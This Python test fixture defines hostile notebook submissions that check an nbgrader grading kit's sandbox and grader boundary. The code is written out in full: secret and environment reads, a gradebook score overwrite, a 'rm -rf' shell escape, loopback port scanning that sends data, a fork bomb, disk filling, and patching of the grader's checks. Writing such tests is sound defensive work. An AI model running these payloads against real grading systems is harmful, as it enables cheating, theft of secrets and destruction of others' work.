"""Hostile and broken submissions of 01_linear_regression, each with the outcome the kit must give.

Graded by the real `nbgrader autograde` in tests/test_integrity.py.  An attack
meant to raise a score rides on a *wrong* implementation (the gradient-sign
mutant) and must score no more than that wrong implementation honestly does
(`max_points=None`); damage that RebuildFromRelease repairs rides on the
reference answers and must keep full marks; crashes and endless loops ride
on the reference and keep the points earned before them.  `reason` is a
piece of the reason that must be recorded in the gradebook (None: nothing).

The attack code runs where a student's answer runs: at the end of the
`gradient_descent` answer cell (`append`), at the start of
`LinearRegressionGD.fit` (`in_fit`), or after `fit` with the fitted model as
`self` (`after_fit`).  `{port}` in the code is a loopback port the test
listens on, and `{course}` the course folder's absolute path, as an attacker
who guessed them would write them.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from typing import Callable

import nbformat

ASSIGNMENT = "01_linear_regression"
FULL = 12.0
STOPPED = "student code stopped"
SECRET_FILE = "SECRET.txt"                  # placed in the course folder by the test
SECRETS = ("course-secret-7c1f", "grader-secret-9d2a")  # that file's text, and an environment variable's


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    max_points: float | None                # None: no more than the wrong implementation scores honestly
    reason: str | None
    append: str = ""                        # code added at the end of the gradient_descent answer cell
    in_fit: str = ""                        # code run at the start of LinearRegressionGD.fit
    after_fit: str = ""                     # code run after LinearRegressionGD.fit, with the model as `self`
    honest_base: bool = False               # ride on the reference answers instead of the wrong ones
    tamper: Callable | None = None          # edits the notebook node directly
    raw: bytes | None = None                # the file's bytes, replacing the notebook entirely
    link_to: str = ""                       # the notebook is a symbolic link to this path instead
    # The defence that stops it (tests/weakened.py) and how it gains with that defence switched off:
    # "points" (more than its base answers earn), "secret" (a secret in what it printed), "damage"
    # (a bystander's grades or files changed), "loopback" (a connection to the test's socket).
    # () for the robustness cases, which gain nothing anywhere: the batch must complete and the
    # reason be recorded; and for the resource attacks, which would harm the grading machine itself.
    defences: tuple[str, ...] = ()
    sign: str = ""


def _fit_hook(answers: dict[str, str], code: str) -> dict[str, str]:
    marker = "        n, d = X.shape\n"
    body = "".join(f"        {line}\n" for line in code.splitlines())
    return {**answers, "gradient_descent": answers["gradient_descent"].replace(marker, body + marker, 1)}


def _cells_with(nb, grade_id):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id]


def _delete_test_cell(nb):
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "test_gd_one_step"]


def _strip_metadata(nb):
    for grade_id in ("test_gd_convergence", "setup", "gradient_descent"):
        for cell in _cells_with(nb, grade_id):
            cell.metadata = {}


def _duplicate_ids(nb):
    answer = _cells_with(nb, "gradient_descent")[0]
    wrong = copy.deepcopy(answer)
    wrong.source = "class LinearRegressionGD:\n    pass\n"
    wrong["id"] = "second-copy"
    test = copy.deepcopy(_cells_with(nb, "test_gd_convergence")[0])
    test["id"] = "test-copy"
    test.source = "pass"
    nb.cells += [wrong, test]


def _change_points(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata["nbgrader"]["points"] = 100


def _move_cells(nb):
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]
    rest = [c for c in nb.cells if c not in tests]
    nb.cells = tests + rest


def _empty_tests(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and cell.cell_type == "code":
            cell.source = "# Checks nothing.\npass"


# Reaching the checking library from the answer: there is none in the student process.
PATCH_THROUGH_MODULES = """
import importlib
routes = {}
for name, get in (("numpy.testing", lambda: np.testing._private.utils.sys.modules),
                  ("typing", lambda: __import__("typing").sys.modules),
                  ("dataclasses", lambda: __import__("dataclasses").sys.modules),
                  ("collections", lambda: __import__("collections")._sys.modules)):
    try:
        routes[name] = get()
    except Exception as error:
        print("route", name, "failed:", type(error).__name__)
for name, modules in routes.items():
    for module in [m for key, m in list(modules.items()) if "mlkit" in key]:
        print("found", module)
    try:
        checks = importlib.import_module("mlkit.checks")
        checks.Check.close = checks.Check.that = checks.Check.ndarray = lambda *a, **k: None
        print("patched the checks through", name)
    except Exception as error:
        print("no checking library via", name, type(error).__name__)
"""

PATCH_THROUGH_FRAMES = """
import sys
def _frames():
    yield
generator = _frames()
found = generator.gi_frame.f_builtins["__import__"]
try:
    found("mlkit.checks").checks.Check.close = lambda *a, **k: None
except Exception as error:
    print("no mlkit through f_builtins:", type(error).__name__)
frame = sys._getframe()
while frame is not None:
    for scope in (frame.f_locals, frame.f_globals):
        for value in list(scope.values()):
            if type(value).__name__ in ("Check", "CheckFailed"):
                value.close = lambda *a, **k: None
                print("patched a check object")
    frame = frame.f_back
exec("print('exec works, in the student process only')")
"""

PATCH_THROUGH_CTYPES = """
import ctypes
pointer = np.zeros(4).ctypes.data
libc = ctypes.CDLL(None)
for path in (b"{course}/gradebook.db", b"{course}/source/01_linear_regression/linear_regression.ipynb"):
    print("libc open", path, libc.open(path, 2))
found = ctypes.create_string_buffer(200)
descriptor = libc.open(b"{course}/SECRET.txt", 0)
print("libc read", descriptor, libc.read(descriptor, found, 199) if descriptor >= 0 else -1, found.value)
"""

DUNDER_ESCAPE = """
for klass in ().__class__.__base__.__subclasses__():
    if klass.__name__ == "Check":
        for name in ("close", "that", "ndarray", "decreasing", "real_float", "fail", "fail_because"):
            setattr(klass, name, lambda *args, **kwargs: None)
        print("disabled", klass)
"""

STEAL_AND_EXEC_REFERENCE = """
import json, os
for root in ("{course}", os.path.abspath("../../..")):
    try:
        source = json.load(open(os.path.join(root, "source/01_linear_regression/linear_regression.ipynb")))
        for cell in source["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "gradient_descent":
                exec("".join(cell["source"]))
                print("stole the reference solution")
    except Exception as error:
        print("cannot read the source notebook:", type(error).__name__)
"""

READ_EVERYTHING = """
import glob, os
for pattern in ("{course}/*", "{course}/" + "SECRET.txt", "{course}/gradebook.db", "{course}/autograded/*/*/*",
                "{course}/submitted/*/*/*", "/root/*", "/tmp/*.json", "/proc/*/cmdline", "/run/*",
                os.path.expanduser("~/.local/share/jupyter/runtime/*")):
    for path in glob.glob(pattern)[:20]:
        try:
            print(path, open(path, errors="replace").read(300))
        except Exception as error:
            print(path, type(error).__name__)
print(dict(os.environ))
print(os.listdir("/"), os.listdir("."), os.getuid())
"""

REACH_LOOPBACK = """
import socket
reached = []
for port in [{port}, 22, 80, 5432, 8888, *range(40000, 40050)]:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.2) as connection:
            connection.sendall(b"stolen")
            reached.append(port)
    except OSError:
        pass
print("reached", reached)
"""

OUTLIVE_THE_NOTEBOOK = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.2)
    os._exit(0)
"""

LIAR = """
class Liar:
    def __array__(self, *args, **kwargs):
        return np.zeros(2)
    def __eq__(self, other):
        return True
    def __float__(self):
        return 0.0
    def __bool__(self):
        return True
    def __len__(self):
        return 2
    def __index__(self):
        return 0
    def __iter__(self):
        return iter([0.0, 0.0])
    def __getitem__(self, key):
        return 0.0
    def __array_interface__(self):
        return {"data": (0, False), "shape": (10**9,), "typestr": "<f8", "version": 3}
self.weights = Liar()
self.bias = Liar()
"""

ATTACKS = [
    # Patching the grader from the answer: the checks run in another process.
    Attack("patch_through_module_references", "imports the checking library through numpy.testing, typing, "
           "dataclasses, collections and importlib, and replaces Check.close, that, ndarray", None, None,
           append=PATCH_THROUGH_MODULES, defences=("boundary",), sign="points"),
    Attack("patch_through_frames", "takes __import__ and exec from a generator frame's f_builtins and walks "
           "f_back for the test's check object", None, None, in_fit=PATCH_THROUGH_FRAMES, defences=("boundary",), sign="points"),
    Attack("patch_through_ctypes", "uses ndarray.ctypes and libc to open the gradebook and read a secret", None, None,
           append=PATCH_THROUGH_CTYPES, defences=("sandbox",), sign="secret"),
    Attack("patch_allclose", "replaces np.allclose so that every comparison passes", None, None,
           append="np.allclose = lambda *args, **kwargs: True", defences=("boundary",), sign="points"),
    Attack("input_transformer", "registers an IPython input transformer that turns later cells into `pass`", None,
           None, append="get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])", defences=("boundary",), sign="points"),
    Attack("grader_object", "disables the test helper `check` from inside fit", None, None,
           in_fit="check.close = check.that = check.decreasing = lambda *args, **kwargs: None",
           defences=("boundary",), sign="points"),
    Attack("dunder_escape", "climbs to object.__subclasses__ to find the checking library's class and disable it",
           None, None, in_fit=DUNDER_ESCAPE, defences=("boundary",), sign="points"),
    Attack("shell_escape", "runs a shell command with an IPython escape", None, None, append="!rm -rf ../../honest", defences=("boundary",), sign="damage"),
    Attack("magic", "reads the course's secret file with a line magic", None, None,
           append="%cat {course}/SECRET.txt", defences=("boundary",), sign="secret"),
    # Reading what only the grader may read, and using it.
    Attack("steal_and_exec_reference", "reads the source notebook and executes its reference solution", None, None,
           append=STEAL_AND_EXEC_REFERENCE, defences=("sandbox",), sign="points"),
    Attack("read_everything", "reads the course, gradebook, other students, the grader's environment and "
           "connection files", None, None, append=READ_EVERYTHING, defences=("sandbox",), sign="secret"),
    Attack("gradebook_write", "opens gradebook.db with sqlite3 and raises every score", None, None,
           append="import sqlite3\ntry:\n    sqlite3.connect('{course}/gradebook.db').execute("
                  "'update grade set auto_score = 99').connection.commit()\nexcept Exception as e:\n    print(e)", defences=("sandbox",), sign="damage"),
    Attack("write_other_student", "overwrites another student's autograded notebook", None, None,
           append="try:\n    open('{course}/autograded/honest/01_linear_regression/linear_regression.ipynb', "
                  "'w').write('{{}}')\nexcept Exception as e:\n    print(type(e).__name__)", defences=("sandbox",), sign="damage"),
    # Attacking the grader through the link.
    Attack("lying_objects", "returns objects whose __array__, __eq__, __float__, __bool__, __len__, __index__, "
           "__iter__ and __array_interface__ lie", None, None, after_fit=LIAR),
    Attack("subclassed_results", "returns an ndarray subclass and a float subclass whose comparisons always pass",
           None, None, after_fit="class A(np.ndarray):\n    def __eq__(self, other):\n        return True\n"
                                 "class F(float):\n    def __eq__(self, other):\n        return True\n"
                                 "self.weights = self.weights.view(A)\nself.bias = F(self.bias)"),
    Attack("cyclic_history", "returns a loss history that contains itself", None, None,
           after_fit="history = list(self.loss_history)\nhistory.append(history)\nself.loss_history = history"),
    Attack("deep_nesting", "returns a loss history nested 100 000 lists deep", None, None,
           after_fit="deep = []\nfor _ in range(100_000):\n    deep = [deep]\nself.loss_history = deep"),
    Attack("huge_array", "returns a 2 GB array as the weights", None, None,
           after_fit="self.weights = np.zeros(2 * 1024**3 // 8)"),
    Attack("handle_for_data", "returns a generator where the loss history (a list of floats) belongs", None, None,
           after_fit="self.loss_history = (value for value in self.loss_history)"),
    Attack("reply_never_comes", "sleeps forever in predict", None, STOPPED,
           append="import time\nLinearRegressionGD.predict = lambda self, X: time.sleep(10**6)"),
    # The machine: network, processes, memory, disk.
    Attack("reach_loopback", "connects to a port listening on the machine's loopback, and scans others", None, None,
           append=REACH_LOOPBACK, defences=("sandbox",), sign="loopback"),
    Attack("outlive_the_notebook", "forks a detached process meant to outlive grading", None, None,
           append=OUTLIVE_THE_NOTEBOOK),
    Attack("fork_bomb", "forks without end", None, None,
           append="import os\ntry:\n    while True:\n        os.fork()\nexcept OSError as e:\n    print(e)"),
    Attack("disk_fill", "fills the disk through NumPy", None, None,
           append="try:\n    while True:\n        np.save('/tmp/fill', np.zeros(10**7))\nexcept Exception as e:\n"
                  "    print(type(e).__name__)"),
    Attack("os_exit", "calls os._exit to end the process that runs the answers", 0, STOPPED,
           append="import os\nos._exit(0)"),
    # Crashes and endless loops on the reference answers: the points earned before them are kept.
    Attack("endless_loop_ignoring_interrupt", "loops forever in fit and swallows KeyboardInterrupt", 5,
           STOPPED, in_fit="while True:\n    try:\n        pass\n    except BaseException:\n        pass",
           honest_base=True),
    Attack("kernel_crash", "crashes with an out-of-bounds strided view", 5, STOPPED,
           in_fit="np.lib.stride_tricks.as_strided(np.zeros(1), shape=(10**9,), strides=(10**6,)).sum()",
           honest_base=True),
    Attack("memory_exhaustion", "allocates far more memory than the machine has", 5, None,
           in_fit="hog = [np.ones(10**8) for _ in range(400)]", honest_base=True),
    Attack("deep_recursion", "recurses without end at import time", FULL, None,
           append="def dive(depth):\n    return dive(depth + 1)\ntry:\n    dive(0)\nexcept RecursionError:\n    pass",
           honest_base=True),
    Attack("huge_output", "prints a 20 MB line", FULL, None, append="print('x' * 20_000_000)", honest_base=True),
    # Broken or tampered notebooks: repaired from the release, or graded as empty with the reason.
    Attack("notebook_is_a_link", "hands in a symbolic link to the source notebook (solutions and hidden tests) as "
           "the notebook", 0, "symbolic link", link_to="{course}/source/01_linear_regression/linear_regression.ipynb",
           defences=("links",), sign="points"),
    Attack("not_utf8", "a notebook file that is not UTF-8", 0, "could not be read", raw=b"\xff\xfe\x00{not a notebook"),
    Attack("not_json", "a truncated notebook file", 0, "could not be read", raw=b'{"cells": [ {"cell_type": "code"'),
    Attack("deleted_test_cell", "deletes a graded test cell", FULL, None, tamper=_delete_test_cell, honest_base=True),
    Attack("stripped_metadata", "strips nbgrader metadata from a test, a read-only and an answer cell", FULL,
           "lost its nbgrader metadata", tamper=_strip_metadata, honest_base=True),
    Attack("duplicated_grade_ids", "duplicates an answer cell (wrong code) and a test cell (emptied)", FULL, None,
           tamper=_duplicate_ids, honest_base=True),
    Attack("changed_points", "sets every test cell to 100 points", FULL, None, tamper=_change_points,
           honest_base=True, defences=("rebuild",), sign="points"),
    Attack("moved_cells", "moves every test cell before the answers", FULL, None, tamper=_move_cells,
           honest_base=True),
    Attack("emptied_tests", "replaces every test cell's code by `pass`", None, None, tamper=_empty_tests, defences=("rebuild",), sign="points"),
]


def submission(attack: Attack, reference: dict[str, str], wrong: dict[str, str], release_nb,
               course: str = "", port: int = 0) -> bytes:
    """The bytes of the attacker's notebook file."""
    if attack.raw is not None:
        return attack.raw
    answers = reference if attack.honest_base else wrong

    def fill(code: str) -> str:
        return code.replace("{course}", course).replace("{port}", str(port)).replace("{{}}", "{}")

    if attack.in_fit:
        answers = _fit_hook(answers, fill(attack.in_fit))
    appended = fill(attack.append)
    if attack.after_fit:
        body = "".join(f"    {line}\n" for line in fill(attack.after_fit).splitlines())
        appended += ("\n_original_fit = LinearRegressionGD.fit\n\ndef _attacking_fit(self, X, y):\n"
                     "    _original_fit(self, X, y)\n" + body + "    return self\n\n"
                     "LinearRegressionGD.fit = _attacking_fit\n")
    if appended:
        answers = {**answers, "gradient_descent": answers["gradient_descent"] + "\n\n" + appended + "\n"}
    nb = copy.deepcopy(release_nb)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers and cell.metadata["nbgrader"].get("solution") and cell.cell_type == "code":
            cell.source = answers[grade_id]
    if attack.tamper is not None:
        attack.tamper(nb)
    return json.dumps(nbformat.from_dict(nb), indent=1).encode()


# -- Holes in the boundary and the sandbox, each with the defence that closes it ----------------------------
#
# Each exploit is graded twice over (tests/test_attack_defences.py): with the kit as it is, where it must
# gain nothing, and with its defences switched off (tests/weakened.py), where it must gain, so that an
# exploit that fails on its own is seen to test nothing.  `sign` is how a gain shows: "points" (more than
# the base answers score honestly), "canary" (CANARY in the graded notebook), "feedback" (CANARY in the
# feedback page) or "file" (a file written at {course}/pwned-NAME).

CANARY = "mlkit-canary-5e1f"


@dataclass(frozen=True)
class Exploit:
    name: str
    what: str
    assignment: str
    base: str                                   # the mutant whose answers it rides on, or "reference"
    defences: tuple[str, ...]                   # switched off together (tests/weakened.py), it succeeds
    sign: str
    append: dict[str, str] | None = None        # answer cell id -> code added at its end
    replace: tuple[tuple[str, str, str], ...] = ()  # (answer cell id, text, replacement)
    modes: tuple[str, ...] = ("root", "userns")  # sandbox modes the weakened check runs in
    plant: str = ""                             # what the test puts in place first (see test_attack_defences)
    cells: tuple[str, ...] = ()                 # for "points": the test cells it aims at (others may vary with
                                                # the machine's load, 07's timed vectorisation check among them)


SHADOWED_BUILTINS = """
# Replace the builtin the tests compute the expected test-set size with: int(n * test_size) rounds now,
# as this train_test_split does.
import builtins as _builtins
def int(value=0, *args):
    return round(value) if type(value) is float else _builtins.int(value, *args)
"""

HANDLE_TO_FILE = """
import numpy as _np
def isinstance(value, kinds):
    # Receives the test's own tuple of types; calls a method of each to write a file on the grading machine.
    for kind in (kinds if type(kinds) is tuple else (kinds,)):
        try:
            kind.tofile(_np.int64(7), "{course}/pwned-handle_to_file")
        except Exception:
            pass
    return True
"""

READ_PID1 = """
for _pid in ("1", "self"):
    try:
        print("environment of", _pid, open("/proc/" + _pid + "/environ", "rb").read().replace(b"\\0", b" ").decode())
    except Exception as error:
        print("environment of", _pid, "refused:", type(error).__name__)
"""

STEAL_INSTRUCTOR_FILE = """
import os as _os
for _name in sorted(_os.listdir(".")):
    if _name.endswith(".py"):
        exec(open(_name).read())
        print("ran", _name)
"""

READ_SYSTEM_SETTINGS = """
import os as _os
for _top in ("/usr/local/etc", "/etc", "/usr/local/etc/jupyter"):
    try:
        for _name in _os.listdir(_top):
            try:
                print(_top, _name, open(_os.path.join(_top, _name)).read(200))
            except Exception:
                pass
    except Exception as error:
        print(_top, "refused:", type(error).__name__)
"""

SORT_IN_A_THREAD = """import threading
        _found = []
        _worker = threading.Thread(target=lambda: _found.append(np.argsort(D, axis=1)[:, :k]))
        _worker.start()
        _worker.join()
        nearest = _found[0]"""

_ZEROED = "        n, d = X.shape\n"
# The canary is put together as it is printed: the answer's source, shown in feedback, does not hold it.
_PRINT_INPUTS = f"        print({CANARY[:6]!r} + {CANARY[6:]!r}, X[:1].tolist())\n"
# On the convergence test's data only, which the base answers fail anyway: the leak costs nothing.
_RAISE_INPUTS = (f"        if X.shape == (200, 3):\n"
                 f"            raise ValueError({CANARY[:6]!r} + {CANARY[6:]!r} + str(X[:1].tolist()))\n")
_FULL_SORT = "        nearest = np.argsort(D, axis=1)[:, :k]                  # (m, k), unordered"

EXPLOITS = [
    Exploit("shadowed_builtins", "defines int, which the test cells compute the expected test-set size with",
            "10_model_selection", "test_size_rounded", ("names",), "points", append={"split": SHADOWED_BUILTINS},
            cells=("test_split_test_size",)),
    Exploit("handle_to_file", "shadows isinstance to receive the test's NumPy types, and writes a file as the "
            "grader through np.integer.tofile", "08_kmeans", "reference", ("names", "handles"), "file",
            append={"kmeans": HANDLE_TO_FILE}),
    Exploit("zeroed_inputs", "zeroes X and y in fit, so references computed from them afterwards are zeros",
            "01_linear_regression", "gradient_sign_flipped", ("writeback",), "points",
            replace=(("gradient_descent", _ZEROED, "        X[...] = 0.0\n        y[...] = 0.0\n" + _ZEROED),),
            cells=("test_gd_one_step", "test_gd_gradient", "test_gd_convergence")),
    Exploit("pid1_environment", "reads the grader's environment from bubblewrap's own process, /proc/1/environ",
            "01_linear_regression", "reference", ("environment",), "canary",
            append={"gradient_descent": READ_PID1}, modes=("userns",)),
    Exploit("instructor_files", "runs a Python file the instructor keeps beside the source notebook",
            "01_linear_regression", "gradient_sign_flipped", ("folder",), "points",
            append={"gradient_descent": STEAL_INSTRUCTOR_FILE}, plant="reference solution in source/",
            cells=("test_gd_one_step", "test_gd_gradient", "test_gd_convergence")),
    Exploit("system_settings", "reads settings kept in /usr/local/etc", "01_linear_regression", "reference",
            ("system_files",), "canary", append={"gradient_descent": READ_SYSTEM_SETTINGS},
            plant="canary in /usr/local/etc"),
    Exploit("sort_watch_switched_off", "switches the sort watch off with sys.setprofile(None), then sorts in full",
            "07_knn", "full_sort_of_distances", ("sort_watch",), "points",
            replace=(("knn", _FULL_SORT, "        __import__('sys').setprofile(None)\n" + _FULL_SORT),),
            cells=("test_knn_partial_sort",)),
    Exploit("sort_in_a_thread", "sorts in full in a thread of its own, which the watch does not follow",
            "07_knn", "full_sort_of_distances", ("sort_watch",), "points",
            replace=(("knn", _FULL_SORT, "        " + SORT_IN_A_THREAD),), cells=("test_knn_partial_sort",)),
    Exploit("hidden_inputs_in_errors", "raises the arrays a hidden test hands to fit as an error message, for the "
            "feedback page", "01_linear_regression", "gradient_sign_flipped", ("hidden_prints",), "feedback",
            replace=(("gradient_descent", _ZEROED, _RAISE_INPUTS + _ZEROED),)),
    Exploit("hidden_inputs_in_feedback", "prints the arrays hidden tests hand to fit, for the feedback page",
            "01_linear_regression", "reference", ("hidden_prints",), "feedback",
            replace=(("gradient_descent", _ZEROED, _PRINT_INPUTS + _ZEROED),)),
]


def exploit_answers(exploit: Exploit, answers: dict[str, str], course: str) -> dict[str, str]:
    """The base answers with the exploit's code in them."""
    answers = dict(answers)
    for cell, text, replacement in exploit.replace:
        assert text in answers[cell], f"{exploit.name}: {text!r} is not in {cell}"
        answers[cell] = answers[cell].replace(text, replacement, 1)
    for cell, code in (exploit.append or {}).items():
        answers[cell] += "\n\n" + code.replace("{course}", course) + "\n"
    return answers
